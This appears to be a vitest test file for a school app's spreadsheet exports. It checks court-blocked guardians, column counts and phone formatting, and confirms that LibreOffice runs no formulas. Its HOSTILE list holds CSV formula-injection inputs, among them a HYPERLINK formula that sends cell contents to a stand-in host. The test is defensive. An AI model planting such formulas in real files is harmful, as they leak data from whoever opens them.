/** Tables as the programs people use open them: no formula, no lost zero, no warning. */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { attendanceTable, contactsTable, phonesTable, rosterTable } from '../../../electron/exports/tables.ts'
import { neutraliseCell } from '../../../electron/platform/csv.ts'
import { makeFile } from '../../../electron/services/exports/make-file.ts'
import { material, materialClass } from '../../helpers/exports-material.ts'
import { guardian, pupil } from '../../helpers/packs-content.ts'
import { needProgram, run, temporaryFolder } from '../../helpers/packs-tools.ts'

const phone = (value: string, label: string | null = null) => ({
  ...{ id: 1, kind: 'phone' as const, value, label, verified: false, bounced: false },
})

/** What a pupil may write into a form on purpose. */
const HOSTILE = [
  '=HYPERLINK("https://piege.example/?"&A1;"clic")',
  '+33 6 39 98 00 12',
  '-2',
  '@SUM(A1)',
  ' =1+1',
  "'apostrophe",
  'O’Brien; "dit" l’Ancien',
  '00012',
]

const hostileClass = materialClass({
  pupils: HOSTILE.map((familyName, index) =>
    pupil({ id: 300 + index, familyName, givenName: 'Zoé', contactPoints: [phone('+33639980012')], guardians: [] }),
  ),
})

describe('the tables of a class', () => {
  const blocked = guardian({ courtBlock: true, givenName: 'Ambroise' })
  const one = materialClass({
    pupils: [pupil({ contactPoints: [phone('+33639980012')], guardians: [blocked, guardian()] })],
  })

  it('hand out nothing of whom a court forbids to contact', () => {
    for (const table of [rosterTable([one], 'fr'), contactsTable([one], 'fr'), phonesTable([one], null, 'fr')]) {
      const lines = table.rows.map((row) => row.join('|'))
      const about = lines.filter((line) => line.includes('Ambroise')).join('\n')
      // The mother has the same number and address in this class: hers are there, beside her own name only.
      if (table.title === 'Liste de la classe')
        expect(lines[0]?.split('Ambroise')[1]?.split('|').slice(1, 4)).toEqual(['mère', '', ''])
      else expect(about).not.toMatch(/06 39|@famille/)
    }
  })

  it('have as many cells in every row as in the header', () => {
    const many = materialClass({
      pupils: [pupil({ guardians: [] }), pupil({ guardians: [guardian(), guardian(), guardian()] })],
    })
    const days = ['2026-11-24', '2026-11-26']
    for (const { header, rows } of [
      rosterTable([many, one], 'en'),
      contactsTable([many, one], 'fr'),
      phonesTable([many], null, 'fr'),
      attendanceTable([{ ...many, days }], 'fr'),
    ])
      expect(new Set(rows.map((row) => row.length))).toEqual(new Set([header.length]))
  })

  it('name only those a message has not reached when it is asked so', () => {
    const [first, second] = materialClass().pupils
    const { rows } = phonesTable([materialClass()], new Set([second?.id ?? 0]), 'fr')
    expect(rows.map((row) => row[1])).toContain('KERBRAT Léo')
    expect(rows.map((row) => row[1])).not.toContain(`${first?.familyName} ${first?.givenName}`)
  })

  it('write numbers as they are dialled in France, one that begins with + nowhere', () => {
    const { rows } = contactsTable(
      [
        materialClass({
          pupils: [pupil({ guardians: [], contactPoints: [phone('+33639980012'), phone('+32470000001')] })],
        }),
      ],
      'fr',
    )
    expect(rows.map((row) => row[6])).toEqual(['06 39 98 00 12', '0032470000001'])
  })
})

describe('in LibreOffice', () => {
  it.for(['xlsx', 'ods', 'csv'] as const)(
    '.%s opens with every cell as it was, none run',
    { timeout: 240_000 },
    async (form, context) => {
      needProgram(context, 'soffice', '--version')
      const file = makeFile(material({ kind: 'table', table: 'contacts', form }, { classes: [hostileClass] }), {
        ...{ kind: 'table', table: 'contacts', form },
      })
      const folder = temporaryFolder()
      const source = join(folder, `table.${form}`)
      writeFileSync(source, await file.bytes())
      const out = join(folder, 'out')
      mkdirSync(out)
      const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`
      const filter = form === 'csv' ? ['--infilter=CSV:59,34,76,1,,0,true'] : []
      // Back to text, every cell as it is shown, UTF-8.
      const target = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false'
      const done = run('soffice', profile, '--headless', ...filter, '--convert-to', target, '--outdir', out, source)
      expect(done.output).toContain('convert')
      // LibreOffice without Java says so; nothing else may be amiss.
      expect(done.output.replace(/^Warning: failed to launch javaldx.*$/m, '')).not.toMatch(/error|warning/i)
      const shown = parse(readFileSync(join(out, 'table.csv')), { bom: true, relax_column_count: true }) as string[][]
      const cells = [[...file.table.header], ...file.table.rows.map((row) => [...row])]
      // An apostrophe before what would be run is how CSV says "this is text"; a spreadsheet's own cells need none.
      const wanted = cells.map((row) => row.map((cell) => (form === 'csv' ? neutraliseCell(cell) : cell)))
      expect(shown.map((row) => row.map((cell) => cell.trim()))).toEqual(
        wanted.map((row) => row.map((cell) => cell.trim())),
      )
    },
  )
})
